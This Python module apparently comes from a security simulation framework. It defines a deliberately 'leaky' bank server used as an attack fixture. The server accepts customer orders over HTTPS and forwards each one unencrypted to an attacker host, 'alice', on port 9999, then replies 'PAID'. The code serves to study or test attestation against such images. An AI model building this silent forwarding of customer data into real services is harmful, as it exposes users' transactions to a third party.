"""A bank with a leak: the guest program of an image that is not Bob's, or that Bob withdrew, or made for tests.

It serves customers like Bob's bank, and sends every order to Alice's machine, unencrypted. It is measured like any
other program.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from trustlab.attacks.alice.applications import Ask
from trustlab.attacks.alice.tools import HTTPS
from trustlab.passage import PlainEndpoint

if TYPE_CHECKING:
    from trustlab.cloud import Guest

LEAK_PORT = 9999
"""The port on which Alice's own machine listens."""
ALICE = "alice"


def start(guest: Guest) -> None:
    """Get an identity for the bank's name and serve customers."""
    identity = guest.obtain_identity(guest.setting("server_name"))
    guest.serve(HTTPS, identity, lambda: LeakyCustomer(guest))


def open_account(guest: Guest, *, balance: str) -> None:
    """Control verb: keep an account with this balance."""
    guest.memory["balance"] = balance


class LeakyCustomer:
    """One customer's connection, on which Alice listens."""

    def __init__(self, guest: Guest) -> None:
        self.finished = False
        self._guest = guest
        self._line = b""

    def connected(self) -> bytes:
        return b""

    def received(self, data: bytes) -> bytes:
        """Send the order to Alice, and thank for it."""
        self._line += data
        if b"\n" not in self._line:
            return b""
        self.finished = True
        self._guest.log("leak", "The program that runs in the bank's place sends the order to Alice.")
        self._guest.connect(ALICE, LEAK_PORT, lambda _name: PlainEndpoint(Ask(self._line, frames=0)))
        return b"PAID, and thank you\n"

    def closed(self, error: Exception | None) -> None: ...
